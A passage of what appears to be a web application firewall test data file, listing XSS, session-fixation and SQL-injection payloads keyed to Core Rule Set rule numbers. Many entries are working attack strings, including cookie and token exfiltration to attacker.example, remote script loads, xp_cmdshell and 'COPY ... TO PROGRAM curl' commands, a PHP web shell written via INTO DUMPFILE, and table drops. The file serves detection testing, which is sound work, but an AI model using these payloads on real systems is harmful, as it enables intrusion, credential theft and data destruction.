    # 943100 Session Fixation: Setting Cookie Values in HTML
    Title("generic", "session-fixation-cookie-html", (
        "<script>document.cookie=\"sessionid=attackerchosen;path=/\"</script>",
        "<meta http-equiv=\"Set-Cookie\" content=\"PHPSESSID=fixated123\">",
        "javascript:document.cookie='JSESSIONID=abc123;domain=.example.com'",
        "<img src=x onerror=\"document.cookie='session=1337;path=/'\">",
        "\";document.cookie='ASPSESSIONID=XYZ';\"",
        "<META HTTP-EQUIV=Set-Cookie CONTENT=\"sid=fixed; path=/\">",
        "document.cookie = 'session_id=0000'",
    )),
    # 943110 Session Fixation: SessionID Parameter Name with Off-Domain Referer
    Title("generic", "session-id-off-domain-referer", (
        "fixated0123456789", "a1b2c3d4e5f6", "ATTACKERSESSION", "deadbeefcafe", "1337", "sess_fixed_42",
    ), fields=SESSION_FIELDS, places=SESSION_PLACES, referer="https://attacker.example/promo/landing.html"),
    # 943120 Session Fixation: SessionID Parameter Name with No Referer
    Title("generic", "session-id-no-referer", (
        "fixated9876543210", "0000000000", "attacker-session-1", "c0ffee00", "ABCDEF123456", "sess_fixed_77",
    ), fields=SESSION_FIELDS, places=SESSION_PLACES, referer=""),
    # 941100 XSS Attack Detected via libinjection
    Title("xss", "xss-libinjection", (
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(document.domain)>",
        "\"><svg/onload=alert(1)>",
        "<body onload=confirm(1)>",
        "'><iframe src=javascript:alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<a href=\"javascript:fetch('//attacker.example/'+document.cookie)\">x</a>",
        "</textarea><script>prompt(1)</script>",
    )),
    # 941110 Script Tag Vector
    Title("xss", "xss-script-tag", (
        "<script src=//attacker.example/x.js></script>",
        "<SCRIPT>document.location='//attacker.example/?c='+document.cookie</SCRIPT>",
        "<script\n>alert(1)</script>",
        "<script type=module>import('//attacker.example/m.js')</script>",
        "<scr<script>ipt>alert(1)</script>",
        "<script/x>alert(1)</script>",
        "</script><script>alert(1)</script>",
        "<script>eval(atob('YWxlcnQoMSk='))</script>",
    )),
    # 941120 Event Handler Vector
    Title("xss", "xss-event-handler", (
        "<img src=1 onerror=alert(1)>",
        "<div onmouseover=\"alert(1)\">hover</div>",
        "<input autofocus onfocus=alert(1)>",
        "<video><source onerror=alert(1)>",
        "<svg onload=alert`1`>",
        "<marquee onstart=alert(1)>",
        "\" onpointerenter=\"alert(1)",
        "' onclick='fetch(`//attacker.example`)",
    )),
    # 941130 Attribute Vector
    Title("xss", "xss-attribute-vector", (
        "<form><button formaction=javascript:alert(1)>x</button></form>",
        "<div style=\"background:url(javascript:alert(1))\">",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
        "<p style=\"x:expression(alert(1))\">",
        "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
        "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
        "<isindex action=javascript:alert(1) type=image>",
    )),
    # 941140 Javascript URI Vector
    Title("xss", "xss-javascript-uri", (
        "javascript:alert(document.cookie)",
        "JaVaScRiPt:alert(1)",
        "javascript://%0aalert(1)",
        "java\tscript:alert(1)",
        "vbscript:msgbox(1)",
        " javascript:fetch('//attacker.example')",
        "javascript&colon;alert(1)",
        "<a href=\"jav&#x61;script:alert(1)\">click</a>",
    ), fields=("website", "avatar_url", "homepage", "redirect_to")),
    # 941160 NoScript: HTML Injection
    Title("xss", "html-injection", (
        "<iframe src=//attacker.example>",
        "<object data=//attacker.example/x.swf>",
        "<embed src=javascript:alert(1)>",
        "<form action=//attacker.example><input name=q>",
        "<meta http-equiv=refresh content=\"0;url=//attacker.example\">",
        "<base href=//attacker.example/>",
        "<link rel=import href=//attacker.example/x.html>",
        "<frameset><frame src=javascript:alert(1)>",
    )),
    # 941170 NoScript: Attribute Injection
    Title("xss", "attribute-injection", (
        "\" style=\"behavior:url(#default#time2)\" onbegin=\"alert(1)",
        "x\" autofocus onfocus=\"alert(1)",
        "' href='javascript:alert(1)",
        "\" formaction=\"javascript:alert(1)",
        "\" src=\"data:text/html,<script>alert(1)</script>",
        "x' style='-moz-binding:url(//attacker.example/x.xml#a)'",
        "\" onload=\"eval(name)",
        "a\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" xlink:href=\"javascript:alert(1)",
    )),
    # 941180 Node-Validator Blacklist Keywords
    Title("xss", "node-validator-blacklist", (
        "new Image().src='//attacker.example/?'+document.cookie",
        "document.write('<img src=//attacker.example/'+document.cookie+'>')",
        "window.location='//attacker.example'",
        "x.innerHTML='<img src=x onerror=alert(1)>'",
        "this.parentNode.removeChild(this)",
        "<![CDATA[<script>alert(1)</script>]]>",
        "-moz-binding:url(//attacker.example/xbl.xml#x)",
        "--><script>alert(1)</script><!--",
    )),
    # 941190 IE XSS Filters (style)
    Title("xss", "ie-xss-style", (
        "<style>@import'//attacker.example/x.css';</style>",
        "<style>body{background:url(\"javascript:alert(1)\")}</style>",
        "<style>*{x:expression(alert(1))}</style>",
        "<div style=\"width:expression(alert(1))\">",
        "<style>li{list-style-image:url(\"javascript:alert(1)\")}</style>",
        "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(1)';</STYLE>",
        "<style>@import url(//attacker.example/a.css);</style>",
    )),
    # 941200 IE XSS Filters (VML / XML namespaces)
    Title("xss", "ie-xss-vml", (
        "<v:rect style=\"behavior:url(#default#VML)\" onclick=alert(1)>",
        "<xml id=x><x><c><![CDATA[<img src=x onerror=alert(1)>]]></c></x></xml>",
        "<?xml:namespace prefix=t ns=urn:schemas-microsoft-com:time>",
        "<t:set attributeName=innerHTML to=\"&lt;img src=x onerror=alert(1)&gt;\">",
        "<v:image src=javascript:alert(1)>",
        "<html xmlns:v=\"urn:schemas-microsoft-com:vml\"><v:shape onmouseover=alert(1)>",
        "<vmlframe src=//attacker.example/x.vml#xss>",
    )),
    # 941210 IE XSS Filters (obfuscated javascript:)
    Title("xss", "ie-xss-js-obfuscated", (
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
        "ja&#x09;vascript:alert(1)",
        "&#x6A;&#x61;&#x76;&#x61;script:alert(1)",
        "<img src=\"jav&#x0A;ascript:alert(1)\">",
        "javas&#99;ript:alert(1)",
        "<iframe src=\"&#0000106avascript:alert(1)\">",
        "j\\u0061vascript:alert(1)",
    ), fields=("website", "homepage", "bio", "redirect_to")),
    # 941220 IE XSS Filters (obfuscated vbscript:)
    Title("xss", "ie-xss-vbs-obfuscated", (
        "vb&#x73;cript:msgbox(1)",
        "v&#98;script:MsgBox(\"x\")",
        "<a href=\"vbscript&#58;msgbox(1)\">x</a>",
        "&#118;&#98;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)",
        "<img src=\"vbs&#x0D;cript:msgbox(1)\">",
        "VBScRiPt:Execute(\"msgbox 1\")",
        "<iframe src=\"vbscript:CreateObject(&quot;WScript.Shell&quot;).Run(&quot;calc&quot;)\">",
    ), fields=("website", "homepage", "bio", "redirect_to")),
    # 941230 IE XSS Filters (embed)
    Title("xss", "ie-xss-embed", (
        "<embed src=//attacker.example/x.swf allowscriptaccess=always>",
        "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\" type=\"image/svg+xml\">",
        "<embed code=//attacker.example/x.swf>",
        "<embed src=\"javascript:alert(1)\">",
        "<embed/src=//attacker.example/a.swf>",
        "<embed type=text/html src=//attacker.example/p.html>",
        "<embed src=x onerror=alert(1)>",
    )),
    # 941240 IE XSS Filters (import / implementation)
    Title("xss", "ie-xss-import", (
        "<import implementation=\"#default#time2\">",
        "<?import namespace=\"t\" implementation=\"#default#time2\">",
        "<div style=\"behavior:url(//attacker.example/x.htc)\">",
        "<t:animate implementation=#default#time2 onbegin=alert(1)>",
        "<x style=\"behavior:url('#default#userData')\">",
        "<import namespace=\"x\" implementation=\"//attacker.example/a.htc\">",
        "<?import implementation=\"//attacker.example/b.htc\">",
    )),
    # 941250 IE XSS Filters (meta)
    Title("xss", "ie-xss-meta", (
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<META HTTP-EQUIV=\"Set-Cookie\" Content=\"USERID=<script>alert(1)</script>\">",
        "<meta charset=\"x-imap4-modified-utf7\">",
        "<meta http-equiv=\"Content-Type\" content=\"text/html; charset=UTF-7\">",
        "<meta content=\"0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\" http-equiv=refresh>",
        "<meta name=x http-equiv=refresh content=\"1;URL=//attacker.example\">",
        "<meta http-equiv=\"Link\" content=\"<//attacker.example/x.css>; rel=stylesheet\">",
    )),
    # 941260 IE XSS Filters (link)
    Title("xss", "ie-xss-link", (
        "<link rel=\"stylesheet\" href=\"javascript:alert(1)\">",
        "<LINK REL=\"import\" HREF=\"//attacker.example/x.html\">",
        "<link rel=preload href=//attacker.example/a.js as=script onload=alert(1)>",
        "<link href=\"data:text/css,*{x:expression(alert(1))}\" rel=stylesheet>",
        "<link rel=icon href=javascript:alert(1)>",
        "<link/rel=stylesheet/href=//attacker.example/s.css>",
        "<link rel=prefetch href=//attacker.example/?c=1 onload=alert(1)>",
    )),
    # 941270 IE XSS Filters (base)
    Title("xss", "ie-xss-base", (
        "<base href=\"javascript:alert(1)//\">",
        "<BASE HREF=\"//attacker.example/\">",
        "<base href=\"http://attacker.example/\"><script src=app.js></script>",
        "<base target=_blank href=//attacker.example>",
        "<base/href=//attacker.example/>",
        "<base href=\"data:text/html,\">",
        "<base href=\"//203.0.113.7/\">",
    )),
    # 941280 IE XSS Filters (applet)
    Title("xss", "ie-xss-applet", (
        "<applet code=\"Exploit.class\" codebase=\"//attacker.example/\">",
        "<APPLET CODE=x archive=//attacker.example/x.jar>",
        "<applet src=javascript:alert(1)>",
        "<applet code=\"javascript:alert(1)\">",
        "<applet object=x.ser codebase=//attacker.example>",
        "<applet/code=Evil.class/codebase=//attacker.example/>",
        "<applet onload=alert(1)>",
    )),
    # 941290 IE XSS Filters (object)
    Title("xss", "ie-xss-object", (
        "<object data=\"javascript:alert(1)\">",
        "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"//attacker.example/x.sct\"></OBJECT>",
        "<object classid=\"clsid:333C7BC4-460F-11D0-BC04-0080C7055A83\"><param name=DataURL value=javascript:alert(1)>"
        "</object>",
        "<object data=//attacker.example/x.svg type=image/svg+xml>",
        "<object codebase=//attacker.example/x.cab>",
        "<object/data=data:text/html,<script>alert(1)</script>>",
        "<object type=application/x-shockwave-flash data=//attacker.example/x.swf>",
    )),
    # 941300 IE XSS Filters (data binding, param)
    Title("xss", "ie-xss-databinding", (
        "<xml id=i><a><b>&lt;img src=x onerror=alert(1)&gt;</b></a></xml>"
        "<span datasrc=#i datafld=b dataformatas=html></span>",
        "<span datasrc=\"#x\" datafld=\"y\" dataformatas=\"html\">",
        "<param name=url value=javascript:alert(1)>",
        "<xml src=\"//attacker.example/x.xml\" id=x>",
        "<div datasrc=#d datafld=c dataformatas=html>",
        "<param name=\"movie\" value=\"//attacker.example/x.swf\">",
        "<table datasrc=\"#x\"><tr><td><span datafld=c dataformatas=html></span></td></tr></table>",
    )),
    # 941310 US-ASCII Malformed Encoding XSS
    Title("xss", "us-ascii-malformed", (
        "\u00bcscript\u00bealert(\u00a2XSS\u00a2)\u00bc/script\u00be",
        "\u00bcimg src=x onerror=alert(1)\u00be",
        "%BCscript%BEalert(1)%BC/script%BE",
        "\u00bcsvg onload=alert(1)\u00be",
        "\u00bciframe src=javascript:alert(1)\u00be",
        "\u00bcbody onload=alert(1)\u00be",
        "\u00bcscript src=//attacker.example/x.js\u00be\u00bc/script\u00be",
    )),
    # 941350 UTF-7 Encoding IE XSS
    Title("xss", "utf7-xss", (
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "+ADw-img src=x onerror=alert(1)+AD4-",
        "+ADwAcwBjAHIAaQBwAHQAPg-alert(1)",
        "+ADw-svg onload+AD0-alert(1)+AD4-",
        "+ACIAPgA8-script+AD4-alert(document.cookie)+ADw-/script+AD4-",
        "+ADw-iframe src+AD0-javascript:alert(1)+AD4-",
        "+ADw-body onload+AD0-alert(1)+AD4-",
    )),
    # 941360 JSFuck / Hieroglyphy obfuscation
    Title("xss", "jsfuck", (
        "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]",
        "(![]+[])[+[]]+(![]+[])[+!+[]]+(!![]+[])[!+[]+!+[]]",
        "+[]+!+[]+!![]+[][[]]",
        "(+[![]]+[])[+!+[]]",
        "[][[]]+[]+(!![]+[])[+!+[]]+([][[]]+[])[+[]]",
        "$=~[];$={___:++$,$$$$:(![]+\"\")[$]}",
        "\uff9f\u03c9\uff9f\uff89= /\uff40\uff4d\u00b4\uff09\uff89 ~\u253b\u2501\u253b   "
        "//*\u00b4\u2207\uff40*/ ['_'];",
    )),
    # 941370 JavaScript global variable found
    Title("xss", "js-global-variable", (
        "window['al'+'ert'](1)",
        "self['ev'+'al']('alert(1)')",
        "top['document']['cookie']",
        "globalThis[\"fetch\"](\"//attacker.example\")",
        "parent['loc'+'ation']='//attacker.example'",
        "frames[0]['eval']('alert(1)')",
        "this['alert'](document.domain)",
        "window[atob('YWxlcnQ=')](1)",
    )),
    # 941101 XSS via libinjection (PL2)
    Title("xss", "xss-libinjection-fragments", (
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<x onclick=alert(1)>click",
        "<a href=javascript:alert(1)>",
        "<img src=\"x\" onerror=\"eval(atob(this.id))\" id=\"YWxlcnQoMSk=\">",
        "<form><input type=submit formaction=javascript:alert(1)>",
        "<audio src onloadstart=alert(1)>",
        "<style onload=alert(1)>",
    )),
    # 941150 Disallowed HTML Attributes (PL2)
    Title("xss", "disallowed-html-attrs", (
        "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">",
        "<div dynsrc=\"javascript:alert(1)\">",
        "<img lowsrc=\"javascript:alert(1)\">",
        "<table background=\"javascript:alert(1)\">",
        "<a href=x datafld=y>",
        "<img src=x datasrc=#d>",
        "<span style=\"background-image:url(//attacker.example/t.gif)\">hi</span>",
    )),
    # 941320 HTML Tag Handler (PL2)
    Title("xss", "html-tag-handler", (
        "<frameset onload=alert(1)>",
        "<xss contenteditable onblur=alert(1)>",
        "<keygen autofocus onfocus=alert(1)>",
        "<bgsound src=javascript:alert(1)>",
        "<layer src=//attacker.example/x>",
        "<ilayer src=javascript:alert(1)>",
        "<blink onmouseover=alert(1)>x</blink>",
        "<title onpropertychange=alert(1)>",
    )),
    # 941330 IE XSS Filters (PL2: location assignment)
    Title("xss", "ie-xss-location-assign", (
        "\";location='javascript:alert(1)';//",
        "';document.location='//attacker.example/?'+document.cookie;//",
        "x';top.location.href='//attacker.example';'",
        "\";window.name=document.cookie;location=name;//",
        "';self.location.assign('javascript:alert(1)');'",
        "\"-location.replace('//attacker.example')-\"",
        "';this.location=\"javascript:alert(1)\";'",
    )),
    # 941340 IE XSS Filters (PL2: string breakout)
    Title("xss", "ie-xss-string-breakout", (
        "\";alert(1);//",
        "';alert(String.fromCharCode(88,83,83));//",
        "\"+alert(1)+\"",
        "'-confirm(1)-'",
        "\\';alert(1);//",
        "</script><script>alert(1)//",
        "`;alert(1);`",
    )),
    # 941380 AngularJS client side template injection
    Title("xss", "angularjs-csti", (
        "{{constructor.constructor('alert(1)')()}}",
        "{{$on.constructor('alert(1)')()}}",
        "{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(1)')}}",
        "{{7*7}}",
        "{{[].pop.constructor('alert(1)')()}}",
        "<div ng-app ng-csp><input autofocus ng-focus=$event.view.alert(1)>",
        "{{$eval.constructor('fetch(\"//attacker.example\")')()}}",
    )),
    # 4.x AngularJS client side template injection (sandbox escapes)
    Title("xss", "angularjs-sandbox-escape", (
        "{{x={'y':''.constructor.prototype};x['y'].charAt=[].join;$eval('x=alert(1)');}}",
        "{{toString.constructor.prototype.toString=toString.constructor.prototype.call;"
        "[\"a\",\"alert(1)\"].sort(toString.constructor)}}",
        "{{a=toString().constructor.prototype;a.charAt=a.trim;$eval('a,alert(1),a')}}",
        "<input ng-focus=\"$event.path|orderBy:'[].constructor.from([1],alert)'\" autofocus>",
        "<div ng-app>{{constructor.constructor('alert(document.cookie)')()}}</div>",
        "{{'a'.constructor.fromCharCode=[].join;'a'.constructor[0]='\\u003ciframe onload=alert(1)\\u003e';}}",
        "{{$new.constructor('return document.cookie')()}}",
    )),
    # 4.x Javascript method detected
    Title("xss", "js-method-call", (
        "document.cookie.split(';')",
        "fetch('//attacker.example/'+localStorage.getItem('token'))",
        "navigator.sendBeacon('//attacker.example',document.cookie)",
        "document.body.appendChild(document.createElement('script')).src='//attacker.example/x.js'",
        "String.fromCharCode(97,108,101,114,116)",
        "atob('YWxlcnQoMSk=')",
        "document.getElementById('csrf').value",
        "location.replace('//attacker.example')",
    )),
    # 4.x XSS JavaScript function without parentheses
    Title("xss", "js-no-parens", (
        "alert`1`",
        "onerror=alert;throw 1",
        "<svg onload=alert&#96;1&#96;>",
        "setTimeout`alert\\x281\\x29`",
        "{onerror=eval}throw'=alert\\x281\\x29'",
        "[1].find(alert)",
        "location='javascript:alert\\x281\\x29'",
    )),
    # 942100 SQL Injection via libinjection
    Title("sqli", "sqli-libinjection", (
        "' OR '1'='1",
        "1' UNION SELECT username, password FROM users--",
        "admin'--",
        "1; DROP TABLE users--",
        "' OR 1=1 LIMIT 1 -- -",
        "1 AND 1=2 UNION ALL SELECT NULL,version(),NULL",
        "\") OR (\"a\"=\"a",
        "42 OR 1=1",
    )),
    # 942140 Common DB Names Detected
    Title("sqli", "sqli-db-names", (
        "1 UNION SELECT table_name FROM information_schema.tables",
        "' UNION SELECT name FROM master..sysdatabases--",
        "x' AND (SELECT COUNT(*) FROM mysql.user)>0--",
        "1 union select sql from sqlite_master",
        "' UNION SELECT schemaname FROM pg_catalog.pg_tables--",
        "1;SELECT * FROM sys.objects",
        "' union select banner from v$version--",
        "1 AND EXISTS(SELECT * FROM msdb..backupset)",
    )),
    # 942160 blind sqli tests using sleep() or benchmark()
    Title("sqli", "sqli-sleep-benchmark", (
        "1 AND SLEEP(5)",
        "' OR SLEEP(10)-- -",
        "1' AND BENCHMARK(5000000,MD5('a'))--",
        "(SELECT * FROM (SELECT(SLEEP(7)))a)",
        "42) AND sleep(3) AND (1=1",
        "if(now()=sysdate(),sleep(6),0)",
        "'XOR(if(1=1,sleep(5),0))OR'",
        "1 AND benchmark(10000000,sha1(1))",
    )),
    # 942170 benchmark and sleep injection including conditional queries
    Title("sqli", "sqli-conditional-sleep", (
        "1 AND IF(SUBSTRING(version(),1,1)='8',SLEEP(5),0)",
        "' AND (SELECT CASE WHEN (1=1) THEN SLEEP(4) ELSE 0 END)--",
        "1' AND IF(ASCII(SUBSTR(database(),1,1))>100,BENCHMARK(3000000,MD5(1)),0)-- -",
        "SELECT IF(1,SLEEP(2),1)",
        "1 OR IF((SELECT COUNT(*) FROM users)>5,SLEEP(5),0)",
        "'; SELECT CASE WHEN (username='admin') THEN pg_sleep(5) ELSE pg_sleep(0) END FROM users--",
        "1 AND (SELECT 1 FROM (SELECT IF(1=1,SLEEP(5),1))x)",
    )),
    # 942190 MSSQL code execution and information gathering
    Title("sqli", "mssql-exec", (
        "'; EXEC xp_cmdshell 'whoami'--",
        "1; exec master..xp_cmdshell 'ping 203.0.113.5'",
        "' UNION SELECT @@version--",
        "'; EXEC sp_configure 'show advanced options',1; RECONFIGURE--",
        "1 UNION ALL SELECT name FROM master.dbo.sysdatabases",
        "';exec('sel'+'ect 1')--",
        "'; DECLARE @q VARCHAR(99); SET @q='\\\\attacker.example\\x'; EXEC master.dbo.xp_dirtree @q--",
        "1 AND 1=(SELECT TOP 1 name FROM sysobjects WHERE xtype='U')",
    )),
    # 942220 integer overflow attacks, the "magic number" crash
    Title("sqli", "integer-overflow", (
        "2147483648",
        "4294967296",
        "9223372036854775808",
        "0x7fffffff",
        "-2147483649",
        "3.0.00738585072007e-308",
        "2.2250738585072011e-308",
        "18446744073709551616",
    ), fields=("age", "quota_mb", "page", "employee_id", "credit_limit"), numeric=True),
    # 942230 conditional SQL injection attempts
    Title("sqli", "conditional-sqli", (
        "1 AND CASE WHEN 1=1 THEN 1 ELSE 0 END",
        "' AND IF(1=1,'a','b')='a",
        "1) AND (SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)=1 AND (1=1",
        "' OR ELT(1=1,'a')='a",
        "1 AND IIF(1=1,1,0)=1",
        "' AND DECODE(1,1,'a','b')='a",
        "x' AND NULLIF(1,1) IS NULL AND 'x'='x",
        "1 OR (CASE WHEN substring(user,1,1)='r' THEN 1 ELSE 0 END)=1",
    )),
    # 942240 MySQL charset switch and MSSQL DoS
    Title("sqli", "charset-switch-dos", (
        "'; SET NAMES gbk; SELECT 1--",
        "1' COLLATE utf8mb4_bin='1",
        "x' AND _binary'a'=_latin1'a'--",
        "'; ALTER DATABASE app CHARACTER SET latin1--",
        "'; WAITFOR TIME '23:59:59'--",
        "' UNION SELECT CONVERT(password USING latin1) FROM users--",
        "%bf%27 OR 1=1-- -",
        "1; SET CHARACTER SET 'sjis';--",
    )),
    # 942250 MATCH AGAINST, MERGE and EXECUTE IMMEDIATE
    Title("sqli", "match-against-merge-execute", (
        "' AND MATCH(name) AGAINST('+admin' IN BOOLEAN MODE)--",
        "1 OR MATCH (email) AGAINST ('*' WITH QUERY EXPANSION)",
        "'; MERGE INTO users u USING (SELECT 1 id FROM dual) s ON (u.id=s.id) WHEN MATCHED THEN UPDATE SET "
        "role='admin'--",
        "'; EXECUTE IMMEDIATE 'DROP TABLE audit_log';--",
        "1; execute immediate 'select user from dual'",
        "x' OR MATCH(bio) AGAINST(0x61646d696e)-- -",
        "'; MERGE users AS t USING accounts AS s ON 1=1 WHEN NOT MATCHED THEN INSERT VALUES(1);--",
    )),
    # 942270 basic sql injection (union select from)
    Title("sqli", "basic-union-select-from", (
        "1 union select * from users",
        "' UNION SELECT email, pass FROM accounts--",
        "-1 union all select 1,2,concat(user,0x3a,pass) from admins",
        "x') union select null,null from dual--",
        "0 UNION SELECT secret FROM api_keys WHERE 1",
        "1 uNiOn SeLeCt token FrOm sessions",
        "' union distinct select card_number from payments -- ",
        "1/**/union/**/select/**/1/**/from/**/users",
    )),
    # 942280 pg_sleep, waitfor delay, shutdown
    Title("sqli", "pg-sleep-waitfor-shutdown", (
        "'; SELECT pg_sleep(10)--",
        "1; WAITFOR DELAY '0:0:5'--",
        "'; SHUTDOWN WITH NOWAIT;--",
        "1) ; select pg_sleep(5)::text --",
        "';waitfor delay '00:00:07';--",
        "1 AND 1=(SELECT 1 FROM pg_sleep(3))",
        "'; SHUTDOWN--",
    )),
    # 942290 basic MongoDB SQL injection (operators as JSON, JavaScript for $where)
    Title("sqli", "mongodb-injection", (
        '{"$ne": null}',
        '{"$gt": ""}',
        '{"$regex": "^adm", "$options": "i"}',
        '{"$where": "sleep(5000) || true"}',
        '{"$expr": {"$function": {"body": "function(){ return true }", "args": [], "lang": "js"}}}',
        '{"$nin": ["nobody"]}',
        "'; return db.users.find(); var dummy='",
        "' || this.role == 'admin' || '",
        '{"$or": [{"role": "admin"}, {"_id": {"$exists": true}}]}',
    ), fields=("email", "username", "user_id", "team"), structured="value"),
    # 942320 MySQL and PostgreSQL stored procedure/function injections
    Title("sqli", "stored-proc-function", (
        "'; CREATE FUNCTION sys_exec RETURNS int SONAME 'lib_mysqludf_sys.so';--",
        "1; CALL mysql.rds_kill(1)",
        "'; CREATE OR REPLACE FUNCTION x() RETURNS text AS $$ SELECT 1 $$ LANGUAGE sql;--",
        "'; DO $$ BEGIN PERFORM pg_sleep(3); END $$;--",
        "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)",
        "'; CREATE PROCEDURE p() BEGIN SELECT 1; END;--",
        "'; select lo_import('/etc/passwd')--",
        "'; COPY (SELECT '') TO PROGRAM 'curl attacker.example'--",
    )),
    # 942350 MySQL UDF injection and data/structure manipulation
    Title("sqli", "udf-data-manipulation", (
        "'; INSERT INTO users (email, role) VALUES ('x@attacker.example','admin');--",
        "1; UPDATE users SET role='admin' WHERE id=42",
        "'; DELETE FROM audit_log;--",
        "'; ALTER TABLE users ADD COLUMN backdoor text;--",
        "1; DROP TABLE sessions",
        "' ; TRUNCATE TABLE orders -- ",
        "'; create function do_system returns integer soname 'udf.so';--",
        "1; RENAME TABLE users TO users_old",
    )),
    # 942360 concatenated basic SQL injection and SQLLFI
    Title("sqli", "concatenated-sqli-sqllfi", (
        "1' AND LOAD_FILE('/etc/passwd')--",
        "' UNION SELECT LOAD_FILE(0x2f6574632f706173737764)--",
        "x' INTO OUTFILE '/var/www/html/s.php'--",
        "1; SELECT '<?php system($_GET[c]);?>' INTO DUMPFILE '/var/www/s.php'",
        "' AND 1=0 UNION SELECT 1 INTO OUTFILE '/tmp/x'-- -",
        "1;LOAD DATA INFILE '/etc/passwd' INTO TABLE t",
        "' || (SELECT user FROM dual) || '",
    )),
    # 942500 MySQL in-line comment
    Title("sqli", "mysql-inline-comment", (
        "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2",
        "'/*!OR*/1=1-- -",
        "/*!12345union*/ select user()",
        "1/*!AND*/sleep(3)",
        "x'/*!50000or*/'1'='1",
        "/*! SELECT */ version()",
        "1 /*!40101 UNION ALL */ SELECT table_name FROM information_schema.tables",
    )),
    # 942110 Common Injection Testing (PL2)
    Title("sqli", "common-testing", (
        "'", "''", "1'", "\"'", "1\"", "')", "';", "' --",
    ), fields=("id", "employee_id", "username", "sort")),
    # 942120 SQL Operator Detected (PL2)
    Title("sqli", "sql-operator", (
        "1 RLIKE 0x61",
        "x' REGEXP '^a",
        "1 || 1",
        "name NOT BETWEEN 0 AND 1",
        "1 SOUNDS LIKE 1",
        "x' IS NOT NULL OR 'a' != 'b",
        "1 <=> 1",
        "'a' LIKE 'a%' OR 1",
    )),
    # 942130 SQL Tautology (PL2)
    Title("sqli", "sql-tautology", (
        "1=1",
        "' OR 'a'='a",
        "x' or 2>1 --",
        "\" or \"x\"=\"x",
        "1 OR 3 = 3",
        "' or 'abc' LIKE 'abc",
        "') or ('1'='1",
    )),
    # 942150 SQL Injection (functions, PL2)
    Title("sqli", "sql-functions", (
        "concat(user(),0x3a,database())",
        "ascii(substring(version(),1,1))",
        "group_concat(table_name)",
        "char(65,66)",
        "extractvalue(1,concat(0x7e,user()))",
        "updatexml(1,concat(0x7e,@@version),1)",
        "utl_inaddr.get_host_address((select user from dual))",
        "md5(current_user)",
    )),
    # 942180 basic SQL authentication bypass 1/3 (PL2)
    Title("sqli", "auth-bypass-1", (
        "admin' --",
        "admin'#",
        "' or 1=1#",
        "admin')--",
        "' OR ''='",
        "\" or \"\"=\"",
        "x' or 'x'='x'--",
    ), fields=("username", "login", "email")),
    # 942200 MySQL comment-/space-obfuscated injections and backtick termination (PL2)
    Title("sqli", "comment-space-obfuscation", (
        "1'/**/OR/**/1=1/**/--",
        "`users`.`role`",
        "x'/**/union/**/select/**/1--",
        "1+/*x*/or/*y*/+1=1",
        "'or`1`=`1`",
        "1%0bor%0b1=1",
        "admin`--",
        "sel/**/ect pass/**/from users",
    )),
    # 942210 chained SQL injection 1/2 (PL2)
    Title("sqli", "chained-sqli-1", (
        "1; SELECT * FROM users",
        "'; SELECT 1; --",
        "1); SELECT version(); --",
        "x'; INSERT INTO log VALUES (1); --",
        "'; update users set email='a@attacker.example' where 1;--",
        "1 ; SHOW TABLES",
        "'; DECLARE @x INT; --",
    )),
    # 942260 basic SQL authentication bypass 2/3 (PL2)
    Title("sqli", "auth-bypass-2", (
        "' or true--",
        "admin' or '1'='1'/*",
        "' || 1 #",
        "x' having 1=1--",
        "') or true--",
        "' or 'x' like 'x",
        "admin' group by email having 1=1--",
    ), fields=("username", "login", "email")),
    # 942300 MySQL comments, conditions and ch(a)r injections (PL2)
    Title("sqli", "mysql-comments-conditions-char", (
        "1 AND CHAR(97)=CHAR(97)#",
        "' OR CHAR(49)=CHAR(49)-- -",
        "x' AND 1=1#",
        "' or 1 in (select 1)#",
        "1) or char(65)||char(66)#",
        "admin' and ord(mid(user(),1,1))>64#",
        "'=''#",
    )),
    # 942310 chained SQL injection 2/2 (PL2)
    Title("sqli", "chained-sqli-2", (
        "'; SELECT pg_sleep(1); --",
        "1; begin declare @v varchar(8000) set @v='' end--",
        "'; if (1=1) select 1 else select 2--",
        "\"; SELECT * FROM sessions; --",
        "1 ; delete from users where '1'='1",
        "'; END; SELECT 1; --",
        "x\"; drop table tmp; --",
    )),
    # 942330 classic SQL injection probings 1/3 (PL2)
    Title("sqli", "classic-probing-1", (
        "' or 1=1 or ''='",
        "\" or 1=1 --",
        "1' or '1'='1",
        "' or \"a\"=\"a",
        "\") or (\"1\"=\"1",
        "x' AND 'x'='y",
        "' OR '' = '",
    )),
    # 942340 basic SQL authentication bypass 3/3 (PL2)
    Title("sqli", "auth-bypass-3", (
        "admin' or 1=1 limit 1#",
        "' or 1 like 1--",
        "' union select 1,'admin','pass'--",
        "admin\" or \"1\"=\"1\"#",
        "') or ('x')=('x",
        "' or username is not null or '",
        "x' or 1 between 0 and 2--",
    ), fields=("username", "login", "email")),
    # 942361 basic SQL injection based on keyword alter or union (PL2)
    Title("sqli", "alter-union-keyword", (
        "1 UNION SELECT 1",
        "'; ALTER USER root IDENTIFIED BY 'x';--",
        "x union all select 1,2",
